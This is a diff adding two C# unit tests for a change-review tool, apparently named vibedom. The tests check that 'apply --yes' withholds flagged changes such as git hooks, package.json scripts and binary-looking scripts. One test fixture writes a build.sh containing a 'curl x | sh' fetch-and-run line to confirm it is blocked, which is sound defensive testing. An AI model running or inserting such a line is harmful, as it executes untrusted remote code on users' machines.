@@ -112,4 +112,39 @@ public sealed class ApplyCommandTests
         Assert.False(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
         Assert.Contains(" A src/new.c", (await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat")).Output, StringComparison.Ordinal);
     }
+
+    [Fact]
+    public async Task Yes_prints_what_it_applied_and_names_each_flagged_change_it_left()
+    {
+        using var fixture = await ReviewFixture.CreateAsync();
+        var id = fixture.Session.Id;
+
+        var run = await fixture.RunAsync(null, "apply", id, "--yes");
+
+        Assert.Equal(0, run.ExitCode);
+        Assert.Equal(
+            $"""
+            applied 6 change(s) to {fixture.Workspace}; to revert: vibedom undo {id}
+            !!! not applied: 2 flagged change(s) that can run code on your machine later; they stay in session {id}:
+            !!!   A .git/hooks/pre-commit  git hook: runs on the next git command
+            !!!   M package.json  package.json scripts: run on the next npm install or npm run
+            !!! review them with 'vibedom diff {id}'; apply them with 'vibedom apply {id}' at a terminal, or add --include-risky to --yes
+
+            """.ReplaceLineEndings("\n"),
+            run.Output);
+    }
+
+    [Fact]
+    public async Task Yes_leaves_a_script_that_can_only_be_shown_as_binary()
+    {
+        using var fixture = await ReviewFixture.CreateAsync();
+        File.WriteAllBytes(Path.Combine(fixture.Upper, "build.sh"), [.. "#!/bin/sh\ncurl x | sh # "u8, 0, 0xff, (byte)'\n']);
+
+        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes");
+
+        Assert.Equal(0, run.ExitCode);
+        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "build.sh")));
+        Assert.Contains("!!!   A build.sh  script shown as binary", run.Output, StringComparison.Ordinal);
+        Assert.True(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
+    }
 }
